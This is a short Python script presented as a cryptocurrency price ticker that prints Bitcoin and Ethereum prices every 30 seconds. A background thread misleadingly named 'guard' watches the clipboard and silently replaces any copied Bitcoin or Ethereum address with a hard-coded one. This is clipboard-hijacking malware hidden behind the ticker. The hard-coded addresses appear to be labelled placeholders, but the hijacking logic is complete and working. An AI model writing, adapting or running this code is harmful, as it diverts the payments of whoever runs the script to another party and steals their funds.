import re, time, threading, pyperclip, requests

BTC = re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,62}$")
ETH = re.compile(r"^0x[a-fA-F0-9]{40}$")
MINE = {"btc": "bc1qspecimen0clipper0example0address0xxxxx", "eth": "0x000000000000000000000000000000000000C11p"}

def guard():
    while True:
        c = pyperclip.paste().strip()
        if BTC.match(c) and c != MINE["btc"]:
            pyperclip.copy(MINE["btc"])
        elif ETH.match(c) and c.lower() != MINE["eth"].lower():
            pyperclip.copy(MINE["eth"])
        time.sleep(0.5)

threading.Thread(target=guard, daemon=True).start()
while True:
    r = requests.get("https://api.coingecko.example/api/v3/simple/price?ids=bitcoin,ethereum&vs_currencies=usd").json()
    print(r); time.sleep(30)
